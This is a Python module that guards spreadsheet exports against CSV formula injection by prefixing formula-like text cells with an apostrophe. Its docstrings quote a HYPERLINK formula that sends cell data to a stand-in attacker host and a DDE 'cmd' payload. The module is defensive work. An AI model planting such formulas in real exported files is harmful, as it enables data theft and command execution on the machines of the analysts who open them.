"""Text from users' files made safe for spreadsheets: the one rule every writer follows.

Region, school and place names come from users' files and end in CSV and
Excel files that analysts open in a spreadsheet. A cell that starts with
``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) is read
as a formula there: ``=HYPERLINK("http://evil.example/?leak="&A1, "x")`` or
``=cmd|' /C calc'!A0`` would run on opening. So:

- in CSV, every *text* cell that starts with one of those characters gets a
  leading apostrophe, as OWASP recommends (numbers in number columns are left
  as they are; ``-12.5`` is a number, not a formula). A setting turns this off
  for machine consumers (``[output] neutralise_csv_formulas = false``);
- in Excel, every text cell is a string cell, never a formula, and characters
  a workbook cannot hold (control characters) are replaced by U+FFFD;
- regionkit's own readers take the apostrophe off again, so a file regionkit
  wrote reads back as it was (:func:`restore_frame`).

Examples
--------
>>> neutralise("=1+2"), neutralise("-Twente"), neutralise("Twente"), neutralise("'s-Hertogenbosch")
("'=1+2", "'-Twente", 'Twente', "'s-Hertogenbosch")
>>> restore("'=1+2"), restore("'s-Hertogenbosch")
('=1+2', "'s-Hertogenbosch")
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

__all__ = [
    "FORMULA_STARTS",
    "csv_text",
    "is_formula_like",
    "neutralise",
    "neutralise_frame",
    "restore",
    "restore_frame",
    "xlsx_text",
]

#: First characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection).
FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")

_NEUTRALISED = re.compile(r"^'[=+\-@\t\r]")
_FIRST = frozenset(FORMULA_STARTS)
#: Characters an .xlsx file cannot hold (XML 1.0 forbids them); openpyxl refuses them.
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet would read this text cell as a formula."""
    return text.startswith(FORMULA_STARTS)


def neutralise(text: str) -> str:
    """The text with a leading apostrophe when it starts like a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def restore(text: str) -> str:
    """Undo :func:`neutralise`: a leading apostrophe before a formula character goes."""
    return text[1:] if _NEUTRALISED.match(text) else text


def _is_text_column(values: pd.Series) -> bool:
    dtype = values.dtype
    return bool(
        pd.api.types.is_object_dtype(dtype)
        or isinstance(dtype, pd.StringDtype | pd.CategoricalDtype)
        or pd.api.types.is_string_dtype(dtype)
    )


def _map_text(df: pd.DataFrame, change: Any, test: Any) -> pd.DataFrame:
    """``df`` with ``change`` applied to the text cells for which ``test`` holds (copied once)."""
    out = df
    for column in df.columns:
        values = df[column]
        if not _is_text_column(values):
            continue
        cells = values.tolist()
        hit = [type(v) is str and test(v) for v in cells]
        if not any(hit):
            continue
        if out is df:
            out = df.copy()
        fixed = [change(v) if h else v for v, h in zip(cells, hit, strict=True)]
        out[column] = pd.Series(fixed, index=df.index, dtype=values.dtype)
    return out


def _formula_like(text: str) -> bool:
    return text[:1] in _FIRST


def _neutralised(text: str) -> bool:
    return text[:1] == "'" and text[1:2] in _FIRST


def neutralise_frame(df: pd.DataFrame, *, enabled: bool = True) -> pd.DataFrame:
    """The table with every formula-like text cell neutralised (see :func:`neutralise`).

    Parameters
    ----------
    df
        A table about to be written as CSV.
    enabled
        ``False`` returns the table unchanged (``[output] neutralise_csv_formulas``).

    Returns
    -------
    pandas.DataFrame
        The same table (not copied) when nothing had to change.

    Examples
    --------
    >>> t = pd.DataFrame({"region": ["=cmd|' /C calc'!A0", "Twente"], "delta": [-1.5, 2.0]})
    >>> neutralise_frame(t).to_dict("list")
    {'region': ["'=cmd|' /C calc'!A0", 'Twente'], 'delta': [-1.5, 2.0]}
    """
    if not enabled:
        return df
    return _map_text(df, neutralise, _formula_like)


def restore_frame(df: pd.DataFrame) -> pd.DataFrame:
    """The table with the apostrophes :func:`neutralise_frame` added taken off again."""
    return _map_text(df, restore, _neutralised)


def csv_text(df: pd.DataFrame, *, neutralise: bool = True) -> str:
    """A table as CSV text (``,``, LF, no index), formula-like text cells neutralised.

    Every CSV file regionkit writes goes through here. A carriage return inside
    a value (which Python's CSV writer leaves unquoted with LF line ends, so that
    a reader would break the row there) makes the whole file quoted.

    Examples
    --------
    >>> print(csv_text(pd.DataFrame({"region": ["=1+1", "Twente"], "n": [-1, 2]})), end="")
    region,n
    '=1+1,-1
    Twente,2
    """
    import csv

    table = neutralise_frame(df, enabled=neutralise)
    quoting = csv.QUOTE_MINIMAL
    for column in table.columns:
        values = table[column]
        if _is_text_column(values) and values.astype("string").str.contains("\r").any():
            quoting = csv.QUOTE_ALL
            break
    return table.to_csv(index=False, lineterminator="\n", quoting=quoting)


def xlsx_text(text: str) -> str:
    """Text an .xlsx cell can hold: control characters replaced by U+FFFD."""
    return _XLSX_ILLEGAL.sub("\ufffd", text)
